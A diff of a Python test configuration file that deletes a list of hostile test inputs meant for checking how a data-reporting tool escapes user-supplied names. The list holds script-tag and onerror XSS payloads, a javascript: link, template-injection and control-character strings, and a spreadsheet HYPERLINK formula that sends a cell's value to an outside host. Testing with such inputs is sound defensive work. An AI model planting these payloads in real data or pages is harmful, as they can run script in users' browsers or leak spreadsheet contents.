@@ -30,20 +30,6 @@ pytest_plugins = ["fitted", "toy_series"]
 if signal.getsignal(signal.SIGINT) == signal.SIG_IGN:
     signal.signal(signal.SIGINT, signal.default_int_handler)
 
-# What somebody could have written into a column name, a category, an identifier or dataset.toml.
-HOSTILE_TEXTS = (
-    "<script>alert(1)</script>",
-    '"><img src=x onerror=alert(1)>',
-    "[click](javascript:alert(1))",
-    "`code` **bold** _it_ # head | cell",
-    '=HYPERLINK("http://e.com?"&A1,"x")',
-    "tab\there\x00null\x1b[31mred\r\nline",
-    "abc\u202edcba\u2066x\u2069\u200b",
-    "x" * 10_000,
-    "https://example.org/ and me@example.org",
-    'it\'s & "quoted" {braces} {{7*7}} $x$',
-)
-
 SHOP = {
     "dataset": {"title": "A shop", "noun": "client", "nouns": "clients"},
     "value": {"column": "spent"},
